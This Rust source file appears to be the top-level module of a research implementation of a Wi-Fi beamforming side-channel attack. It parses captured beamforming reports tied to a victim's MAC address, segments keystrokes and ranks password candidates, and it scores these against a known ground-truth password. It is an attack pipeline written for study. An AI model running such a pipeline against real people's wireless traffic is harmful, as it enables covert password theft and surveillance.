//! The end-to-end attack: capture → windows → series → recovery →
//! segmentation → inference → ranking. Each window succeeds or fails on its
//! own; failures are reported, not raised.

use serde::{Deserialize, Serialize};
use thiserror::Error;

use crate::config::{ConfigError, PipelineConfig};
use crate::frame::{parse_action_noack, parse_packet_meta, BfiFrame, MacAddr, PacketMeta};
use crate::inference::{rank_of, rank_passwords, KiModel, PasswordCandidate};
use crate::orchestrator::{clip_frames, detect_windows, OrchestratorError, VictimProfile};
use crate::pcap::Capture;
use crate::segment::{locate_keystrokes, segment, PeakPolicy, SegmentError};
use crate::series::{extract_feature, resample, viability_check, BfiSeries, SeriesError, Viability};
use crate::sra::{recover, SraError, SraModel};
use crate::steering::reconstruct_v;

#[derive(Debug, Error)]
pub enum PipelineError {
    #[error(transparent)]
    Config(#[from] ConfigError),
    #[error(transparent)]
    Orchestrator(#[from] OrchestratorError),
}

/// Everything decodable in a capture.
#[derive(Clone, Debug, Default)]
pub struct DecodedCapture {
    pub frames: Vec<BfiFrame>,
    pub packets: Vec<PacketMeta>,
    /// Records that looked like beamforming reports but failed to parse.
    pub malformed: usize,
}

pub fn decode_capture(capture: &Capture) -> DecodedCapture {
    let mut out = DecodedCapture::default();
    for rec in &capture.records {
        match parse_action_noack(rec) {
            Ok(Some(f)) => out.frames.push(f),
            Ok(None) => out.packets.extend(parse_packet_meta(rec)),
            Err(_) => out.malformed += 1,
        }
    }
    out
}

/// Feature extraction and resampling of one window's frames.
pub fn series_from_frames(frames: &[BfiFrame], config: &PipelineConfig) -> Result<BfiSeries, SeriesError> {
    let samples: Vec<(i64, f64)> = frames
        .iter()
        .map(|f| (f.timestamp_us, extract_feature(&reconstruct_v(f), f, config.series.selector)))
        .collect();
    resample(&samples, config.series.fs_hz)
}

/// Why a window produced no candidates.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
#[serde(tag = "kind", content = "detail", rename_all = "snake_case")]
pub enum WindowFailure {
    NoFrames,
    Series(String),
    NotViable,
    /// The series has gaps and no recovery model was supplied.
    NoRecoveryModel,
    Recovery(String),
    InsufficientPeaks { found: usize, needed: usize },
    Segmentation(String),
    Inference(String),
}

#[derive(Clone, Debug, PartialEq, Serialize, Deserialize)]
pub struct WindowSuccess {
    pub samples: usize,
    pub gap_fraction: f64,
    pub recovered: bool,
    pub peaks: Vec<usize>,
    pub candidates: Vec<PasswordCandidate>,
    #[serde(skip_serializing_if = "Option::is_none")]
    pub truth_rank: Option<usize>,
}

#[derive(Clone, Debug, PartialEq, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum WindowOutcome {
    Candidates(WindowSuccess),
    Failed(WindowFailure),
}

#[derive(Clone, Debug, PartialEq, Serialize, Deserialize)]
pub struct WindowReport {
    pub start_us: i64,
    pub end_us: i64,
    pub trigger_ip: std::net::IpAddr,
    pub frames: usize,
    pub outcome: WindowOutcome,
}

#[derive(Clone, Debug, PartialEq, Serialize, Deserialize)]
pub struct AttackReport {
    pub config_hash: String,
    pub victim_mac: MacAddr,
    pub frames_total: usize,
    pub malformed_records: usize,
    pub windows: Vec<WindowReport>,
}

impl AttackReport {
    pub fn successful_windows(&self) -> usize {
        self.windows
            .iter()
            .filter(|w| matches!(w.outcome, WindowOutcome::Candidates(_)))
            .count()
    }

    /// Best rank of the truth over all windows.
    pub fn best_truth_rank(&self) -> Option<usize> {
        self.windows
            .iter()
            .filter_map(|w| match &w.outcome {
                WindowOutcome::Candidates(s) => s.truth_rank,
                WindowOutcome::Failed(_) => None,
            })
            .min()
    }

    pub fn to_json(&self) -> String {
        serde_json::to_string_pretty(self).expect("report always serializes")
    }
}

/// Trained models used by the attack.
#[derive(Clone, Copy)]
pub struct Models<'a> {
    pub ki: &'a KiModel,
    pub sra: Option<&'a SraModel>,
}

/// Runs the whole workflow. `truth`, when given, is located among each
/// window's candidates.
pub fn run_attack(
    capture: &Capture,
    profile: &VictimProfile,
    models: Models<'_>,
    config: &PipelineConfig,
    truth: Option<&str>,
) -> Result<AttackReport, PipelineError> {
    config.validate()?;
    let decoded = decode_capture(capture);
    let windows = detect_windows(&decoded.packets, profile)?;
    let clipped = clip_frames(&decoded.frames, &windows, profile.mac);
    let reports = windows
        .iter()
        .zip(clipped)
        .map(|(w, frames)| WindowReport {
            start_us: w.start_us,
            end_us: w.end_us,
            trigger_ip: w.trigger_ip,
            frames: frames.len(),
            outcome: match attack_window(&frames, models, config, truth) {
                Ok(s) => WindowOutcome::Candidates(s),
                Err(f) => WindowOutcome::Failed(f),
            },
        })
        .collect();
    Ok(AttackReport {
        config_hash: config.hash(),
        victim_mac: profile.mac,
        frames_total: decoded.frames.len(),
        malformed_records: decoded.malformed,
        windows: reports,
    })
}

fn attack_window(
    frames: &[BfiFrame],
    models: Models<'_>,
    config: &PipelineConfig,
    truth: Option<&str>,
) -> Result<WindowSuccess, WindowFailure> {
    if frames.is_empty() {
        return Err(WindowFailure::NoFrames);
    }
    let series = series_from_frames(frames, config).map_err(|e| WindowFailure::Series(e.to_string()))?;
    match viability_check(&series, config.series.viability_window_s) {
        Ok(Viability::Viable) => {}
        Ok(Viability::AttackFailed) => return Err(WindowFailure::NotViable),
        Err(e) => return Err(WindowFailure::Series(e.to_string())),
    }
    let gap_fraction = series.gap_count() as f64 / series.len() as f64;
    let recovered = !series.is_gapless();
    let dense = if recovered {
        let model = models.sra.ok_or(WindowFailure::NoRecoveryModel)?;
        recover(model, &series).map_err(|e| match e {
            SraError::NotViable => WindowFailure::NotViable,
            e => WindowFailure::Recovery(e.to_string()),
        })?
    } else {
        series
    };
    let peaks = locate_keystrokes(&dense, &config.segment, PeakPolicy::TopK).map_err(|e| match e {
        SegmentError::InsufficientPeaks { found, needed } => WindowFailure::InsufficientPeaks { found, needed },
        e => WindowFailure::Segmentation(e.to_string()),
    })?;
    let segments = segment(&dense.values, &peaks, &config.segment);
    let dists = segments
        .iter()
        .map(|s| models.ki.classify(&s.samples))
        .collect::<Result<Vec<_>, _>>()
        .map_err(|e| WindowFailure::Inference(e.to_string()))?;
    let candidates =
        rank_passwords(&dists, &models.ki.keys, config.rank.top_n).map_err(|e| WindowFailure::Inference(e.to_string()))?;
    let truth_rank = truth.and_then(|t| rank_of(&candidates, t));
    Ok(WindowSuccess {
        samples: dense.len(),
        gap_fraction,
        recovered,
        peaks,
        candidates,
        truth_rank,
    })
}
